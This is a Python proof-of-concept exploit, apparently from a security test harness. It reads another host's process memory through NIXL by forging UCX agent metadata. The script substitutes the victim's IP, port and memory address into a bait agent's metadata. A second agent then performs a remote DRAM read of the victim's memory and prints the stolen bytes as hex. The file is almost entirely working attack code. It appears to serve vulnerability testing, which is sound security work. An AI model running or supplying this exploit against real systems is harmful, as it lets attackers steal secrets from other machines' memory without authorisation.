"""Reads a victim's memory through a forged NIXL agent. Runs in its own process, on another host than the victim.

    python forged.py '{"own": HOST, "device": NAME, "victim": HOST, "port": N, "address": N, "bytes": N}'

UCX packs host, port and memory address into the metadata that an agent gives to others. The script creates an agent,
replaces these three values in its metadata by the victim's values, and lets a second agent read from the forged
address. The script prints the state of this read and the bytes that were read, as JSON.
"""

from __future__ import annotations

import ctypes
import json
import os
import socket
import sys
import time
from pathlib import Path

from harness.listening import listening

# A connect over a veth takes less than this time. A read that has not ended within this time has failed.
BOUND_S = 2.0


def main(given: dict[str, object]) -> dict[str, object]:
    os.environ.update(
        UCX_TLS="tcp", UCX_NET_DEVICES=str(given["device"]), UCX_LOG_LEVEL="fatal", NIXL_LOG_LEVEL="FATAL"
    )
    # NIXL reads the variables when it is loaded.
    from nixl._api import nixl_agent, nixl_agent_config  # type: ignore[import-untyped]

    # The number of this process in the PID namespace that /proc shows.
    own = int(Path("/proc/self").readlink().name)
    size = int(str(given["bytes"]))
    reader = nixl_agent("reader", nixl_agent_config(backends=["UCX"]))
    of_reader = listening(own)
    bait = nixl_agent("bait", nixl_agent_config(backends=["UCX"]))
    (listens,) = listening(own) - of_reader
    memory, stolen = (ctypes.create_string_buffer(size) for _ in range(2))
    bait.register_memory([(ctypes.addressof(memory), size, 0, "")], "DRAM")
    reader.register_memory([(ctypes.addressof(stolen), size, 0, "")], "DRAM")
    own_port = int(listens.rpartition(":")[2])
    values = [
        (ctypes.addressof(memory).to_bytes(8, "little"), int(str(given["address"])).to_bytes(8, "little")),
        (socket.inet_aton(str(given["own"])), socket.inet_aton(str(given["victim"]))),
        (own_port.to_bytes(2, "big"), int(str(given["port"])).to_bytes(2, "big")),
    ]
    metadata: bytes = bait.get_agent_metadata()
    for ours, _ in values:
        assert ours in metadata, (ours, "nothing to forge")
    forged = replaced(metadata, values)
    try:
        name = reader.add_remote_agent(forged)
        local = reader.get_xfer_descs([(ctypes.addressof(stolen), size, 0)], "DRAM")
        remote = reader.get_xfer_descs([(int(str(given["address"])), size, 0)], "DRAM")
        handle = reader.initialize_xfer("READ", local, remote, name)
        state = reader.transfer(handle)
        deadline = time.monotonic() + BOUND_S
        while state == "PROC" and time.monotonic() < deadline:
            time.sleep(0.02)
            state = reader.check_xfer_state(handle)
    except Exception as error:  # noqa: BLE001 - NIXL raises anything
        state = f"{type(error).__name__}: {error}"
    return {"state": state, "bytes": stolen.raw.hex()}


def replaced(data: bytes, values: list[tuple[bytes, bytes]]) -> bytes:
    """Replaces the first bytes of each pair by the second ones, but never inside the bytes of an earlier pair.

    The two bytes of a port are sometimes part of a memory address too.
    """
    if not values:
        return data
    (old, new), *later = values
    return new.join(replaced(part, later) for part in data.split(old))


if __name__ == "__main__":
    sys.stdout.write(json.dumps(main(json.loads(sys.argv[1]))) + "\n")
    sys.stdout.flush()
    # End the process directly: the destructor of an agent waits for endpoints that never connected.
    os._exit(0)
